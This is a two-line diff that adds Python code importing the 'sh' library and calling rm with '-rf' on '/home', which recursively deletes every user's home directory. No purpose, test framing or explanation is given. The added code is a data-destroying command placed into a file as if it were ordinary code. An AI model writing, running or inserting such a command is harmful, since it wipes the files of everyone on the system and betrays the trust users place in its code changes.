@@ -1,0 +1,2 @@
+import sh
+sh.rm("-rf", "/home")
